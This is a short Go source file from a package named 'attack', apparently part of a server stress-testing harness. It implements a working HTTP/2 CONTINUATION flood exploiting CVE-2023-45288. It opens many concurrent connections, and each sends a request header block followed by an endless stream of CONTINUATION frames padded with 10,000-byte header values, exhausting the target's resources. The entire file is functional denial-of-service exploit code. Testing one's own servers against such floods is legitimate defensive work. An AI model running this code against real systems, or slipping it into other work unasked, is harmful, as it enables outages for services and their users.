//go:build linux

package attack

import (
	"context"
	"strings"

	"golang.org/x/net/http2"
)

// continuation sends the head of an HTTP/2 request in an endless series of CONTINUATION
// frames (CVE-2023-45288).
func continuation(ctx context.Context, t *trial) {
	t.swarm(ctx, t.n(20), func(ctx context.Context, i int) bool {
		c, err := t.connect(ctx, 1<<20)
		if err != nil {
			return t.failed(ctx, err)
		}
		defer c.close()
		go func() {
			block := c.encode(get2("/events?topic=a")...)
			err := c.write(func() error {
				return c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block, EndStream: true})
			})
			for err == nil && ctx.Err() == nil {
				block := c.encode("x-long", strings.Repeat("x", 10_000))
				err = c.write(func() error { return c.framer.WriteContinuation(1, false, block) })
			}
		}()
		return t.failed(ctx, c.read(ctx))
	})
}
